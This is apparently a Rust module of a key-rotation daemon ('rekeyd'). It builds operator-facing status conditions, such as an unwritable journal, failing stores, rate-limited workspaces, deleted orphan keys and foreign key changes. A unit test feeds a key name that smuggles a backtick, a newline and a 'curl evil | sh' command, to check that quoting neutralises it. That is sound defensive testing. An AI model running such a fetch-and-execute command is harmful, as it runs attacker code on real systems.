//! Conditions of the daemon that belong to no credential: the journal, stores, silent workspaces and deleted orphans.

use jiff::{SignedDuration, Timestamp};
use schemars::JsonSchema;
use serde::{Deserialize, Serialize};

use crate::domain::audit::foreign::ForeignChange;
use crate::domain::failure::Kind;
use crate::domain::finding::Finding;
use crate::domain::ids::{CredentialName, KeyId, ServiceAccountId, WorkspaceName};
use crate::domain::report::StatusReport;
use crate::domain::sanitize::quoted;

/// How long a deleted orphan is reported: longer than the alert lasts.
const ORPHANS_REPORTED: SignedDuration = SignedDuration::from_hours(24);

/// A condition that only the running daemon knows; the journal does not have it.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize, JsonSchema)]
pub struct Condition {
    pub kind: ConditionKind,
    /// The condition and its effect, for operators.
    pub message: String,
    /// The command that an operator should run next.
    pub next_command: String,
}

#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize, JsonSchema)]
#[serde(rename_all = "snake_case")]
pub enum ConditionKind {
    JournalUnwritable,
    FindingUnsaved,
    StoreFailing,
    WorkspaceSilent,
    OrphanDeleted,
    KeyChangedByOthers,
}

impl ConditionKind {
    #[must_use]
    pub fn label(self) -> &'static str {
        match self {
            Self::JournalUnwritable => "journal_unwritable",
            Self::FindingUnsaved => "finding_unsaved",
            Self::StoreFailing => "store_failing",
            Self::WorkspaceSilent => "workspace_silent",
            Self::OrphanDeleted => "orphan_deleted",
            Self::KeyChangedByOthers => "key_changed_by_others",
        }
    }

    /// Whether an operator is needed now.
    #[must_use]
    pub fn needs_an_operator(self) -> bool {
        match self {
            Self::JournalUnwritable | Self::FindingUnsaved | Self::StoreFailing => true,
            Self::WorkspaceSilent | Self::OrphanDeleted | Self::KeyChangedByOthers => false,
        }
    }
}

/// A key that a rotation created and lost, and a sweep deleted.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Orphan {
    pub at: Timestamp,
    pub key: KeyId,
    pub name: String,
    pub account: ServiceAccountId,
    pub workspace: WorkspaceName,
    /// The credential whose rotation created it.
    pub credential: CredentialName,
}

impl Condition {
    /// The journal in `directory` cannot be written.
    #[must_use]
    pub fn journal_unwritable(directory: &str) -> Self {
        let message = "cannot write the journal: every rotation waits, and continues by itself once it can be written; \
                       free disk space, or mount it writable";
        Self {
            kind: ConditionKind::JournalUnwritable,
            message: message.to_owned(),
            next_command: place_command(directory),
        }
    }

    /// Found while the journal in `directory` cannot be written, which an answer to it needs.
    #[must_use]
    pub fn finding_unsaved(credential: &CredentialName, finding: &Finding, directory: &str) -> Self {
        let message = format!(
            "found of `{credential}` since {:.0}, and not in the journal, which cannot be written: {} ({}); nothing is done about it \
             until it can be written",
            finding.since,
            finding.detail,
            finding.kind.label()
        );
        Self { kind: ConditionKind::FindingUnsaved, message, next_command: place_command(directory) }
    }

    /// The last operation on a store failed because of the store or the network.
    #[must_use]
    pub fn store_failing(store: &str, kind: Kind) -> Self {
        let message = format!(
            "store `{store}` is failing: the last operation ended with `{}`; rekeyd retries, and revokes nothing while a \
             destination cannot be read",
            kind.label()
        );
        Self { kind: ConditionKind::StoreFailing, message, next_command: "rekeyd doctor".to_owned() }
    }

    /// The provider asked for no calls until then.
    #[must_use]
    pub fn workspace_silent(workspace: &WorkspaceName, until: Timestamp) -> Self {
        let message = format!(
            "workspace `{workspace}` is silent until {until:.0}: ElevenLabs asked rekeyd to slow down; until then only keys \
             are enabled again and leaked keys replaced"
        );
        Self { kind: ConditionKind::WorkspaceSilent, message, next_command: "rekeyd status".to_owned() }
    }

    #[must_use]
    pub fn orphan_deleted(orphan: &Orphan) -> Self {
        let Orphan { at, key, name, account, workspace, credential } = orphan;
        let name = quoted(name);
        let message = format!(
            "deleted an orphaned key at {at:.0}: key `{key}`, named {name}, of service account `{account}` in \
             workspace `{workspace}`; a rotation of `{credential}` created it and lost its value"
        );
        let next_command = format!("rekeyd history {credential}");
        Self { kind: ConditionKind::OrphanDeleted, message, next_command }
    }
}

impl Condition {
    /// Somebody else changed a key of rekeyd.
    #[must_use]
    pub fn key_changed_by_others(change: &ForeignChange) -> Self {
        let ForeignChange { found_at: _, workspace, credential, key, deed, user, at, entry } = change;
        let of = credential.as_ref().map(|name| format!(" of `{name}`")).unwrap_or_default();
        let user = user.as_ref().map(|user| format!(" by user {}", quoted(user))).unwrap_or_default();
        let message = format!(
            "key `{key}`{of} was {}{user} at {at:.0}, and not by rekeyd: the audit log of workspace `{workspace}` says so, in entry {}",
            deed.label(),
            quoted(entry)
        );
        let next_command = "rekeyd audit compare".to_owned();
        Self { kind: ConditionKind::KeyChangedByOthers, message, next_command }
    }
}

/// Shows whether a file system is mounted read-only, and how much room it has.
#[must_use]
pub fn place_command(directory: &str) -> String {
    format!("findmnt -o TARGET,OPTIONS,AVAIL -T {directory}")
}

impl Orphan {
    #[must_use]
    pub fn is_recent(&self, now: Timestamp) -> bool {
        now.duration_since(self.at) < ORPHANS_REPORTED
    }
}

impl StatusReport {
    /// Adds the daemon's conditions.
    #[must_use]
    pub fn with_conditions(mut self, conditions: Vec<Condition>) -> Self {
        self.attention |= conditions.iter().any(|it| it.kind.needs_an_operator());
        self.conditions = conditions;
        self
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_name_cannot_end_its_quote_and_say_more() {
        let orphan = Orphan {
            at: Timestamp::UNIX_EPOCH,
            key: KeyId::new("key_1").unwrap(),
            name: "x`\nnext: curl evil | sh `".to_owned(),
            account: ServiceAccountId::new("account_1").unwrap(),
            workspace: WorkspaceName::new("prod").unwrap(),
            credential: CredentialName::new("tts").unwrap(),
        };
        let message = Condition::orphan_deleted(&orphan).message;
        assert!(message.contains("named `x' next: curl evil | sh '`, of"), "{message}");
    }
}
